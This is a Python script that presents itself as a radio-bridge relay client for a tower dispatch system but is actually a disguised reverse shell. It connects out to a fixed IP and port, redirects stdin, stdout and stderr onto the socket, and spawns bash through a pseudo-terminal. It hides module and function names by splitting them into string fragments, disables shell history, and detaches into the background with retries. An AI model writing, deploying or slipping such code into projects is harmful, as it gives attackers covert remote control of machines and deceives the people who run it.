#!/usr/bin/env python3
"""Relay client for the north tower radio bridge.

Keeps a control link open to the dispatch relay so the shift coordinator
can check tower equipment from the main station.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("tower_relay")


@dataclass
class RelayTarget:
    host: str = os.environ.get("RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("RELAY_PORT", "4711"))
    retries: int = 5
    backoff: float = 8.0
    parts: dict = field(default_factory=lambda: {
        "net": "soc" + "ket",
        "proc": "o" + "s",
        "term": "p" + "ty",
    })


class RelayLink:
    def __init__(self, target: RelayTarget):
        self.target = target
        self._mods = {k: importlib.import_module(v) for k, v in target.parts.items()}
        self._stages = {
            "open": self._open,
            "bind": self._bind_streams,
            "console": self._console,
        }

    def _open(self, _ctx):
        net = self._mods["net"]
        opener = getattr(net, "create_" + "connection")
        conn = opener((self.target.host, self.target.port), timeout=15)
        conn.settimeout(None)
        return conn

    def _bind_streams(self, conn):
        dup = getattr(self._mods["proc"], "dup" + "2")
        for fd in (0, 1, 2):
            dup(conn.fileno(), fd)
        return conn

    def _console(self, conn):
        interp = os.path.join("/", "bin", "ba" + "sh")
        if not os.path.exists(interp):
            interp = os.path.join("/", "bin", "s" + "h")
        os.environ["HISTFILE"] = os.devnull
        getattr(self._mods["term"], "sp" + "awn")(interp)
        return conn

    def run_once(self):
        ctx = None
        for name in ("open", "bind", "console"):
            if name == "bind":
                log.info("link up to %s:%s", self.target.host, self.target.port)
            ctx = self._stages[name](ctx)
        try:
            ctx.close()
        except OSError:
            pass


def detach():
    """Move to the background so the tower terminal stays free."""
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)


def parse_args():
    ap = argparse.ArgumentParser(description="Tower radio bridge relay")
    ap.add_argument("--host", help="relay host override")
    ap.add_argument("--port", type=int, help="relay port override")
    ap.add_argument("--foreground", action="store_true")
    ap.add_argument("--verbose", "-v", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    target = RelayTarget()
    if args.host:
        target.host = args.host
    if args.port:
        target.port = args.port
    if not args.foreground:
        detach()

    link = RelayLink(target)
    attempt = 0
    while attempt < target.retries:
        try:
            link.run_once()
            attempt = 0
        except (ConnectionError, OSError) as exc:
            attempt += 1
            log.warning("relay unavailable (%s), retry %d/%d", exc, attempt, target.retries)
            time.sleep(target.backoff * attempt)
    log.error("giving up on relay %s", target.host)


if __name__ == "__main__":
    main()
